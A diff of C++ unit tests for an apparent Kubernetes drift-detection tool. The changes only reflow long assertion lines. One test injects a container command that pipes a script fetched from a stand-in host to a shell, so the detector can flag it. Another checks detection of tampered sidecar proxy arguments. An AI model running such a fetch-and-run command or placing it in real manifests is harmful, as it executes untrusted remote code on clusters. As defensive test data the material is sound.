@@ -194,8 +194,7 @@ TEST(DriftS3, PodWhoseOwnerIsNowhereIsNotComparedButNoted) {
   auto result = diff_texts(baseline, kLivePodWithDebugger);
   EXPECT_TRUE(result.findings.empty()) << dump(result);
   ASSERT_FALSE(result.notices.empty());
-  EXPECT_NE(dump(result).find("ReplicaSet shop/web-7c9f8d6b5 is in neither input"), std::string::npos)
-      << dump(result);
+  EXPECT_NE(dump(result).find("ReplicaSet shop/web-7c9f8d6b5 is in neither input"), std::string::npos) << dump(result);
 }
 
 constexpr std::string_view kInjectedPod = R"(apiVersion: v1
@@ -282,8 +281,7 @@ TEST(DriftS5, LinkerdProxyArgsChangedIsHigh) {
   EXPECT_EQ(changed[0].severity, rules::Severity::High);
   EXPECT_EQ(changed[0].container, "linkerd-proxy");
   EXPECT_EQ(changed[0].container_role, "injected-sidecar");
-  EXPECT_NE(changed[0].message.find("(unset) -> [--inbound-ports-to-ignore=1-65535, --token=***]"),
-            std::string::npos)
+  EXPECT_NE(changed[0].message.find("(unset) -> [--inbound-ports-to-ignore=1-65535, --token=***]"), std::string::npos)
       << changed[0].message;
   EXPECT_EQ(changed[0].message.find("s3cr3t"), std::string::npos);
   EXPECT_EQ(result.findings.size(), 1u) << dump(result);
@@ -291,7 +289,8 @@ TEST(DriftS5, LinkerdProxyArgsChangedIsHigh) {
 
 TEST(DriftS5, CommandChangeOfAnApplicationContainerIsMedium) {
   std::string live(kBaseline);
-  live.insert(live.find("        - name: metrics"), "          command: [sh, -c, \"curl -s http://x.example/m | sh\"]\n");
+  live.insert(live.find("        - name: metrics"),
+              "          command: [sh, -c, \"curl -s http://x.example/m | sh\"]\n");
   auto changed = of_rule(diff_texts(kBaseline, live), "KG-DRIFT-003");
   ASSERT_EQ(changed.size(), 1u);
   EXPECT_EQ(changed[0].severity, rules::Severity::Medium);
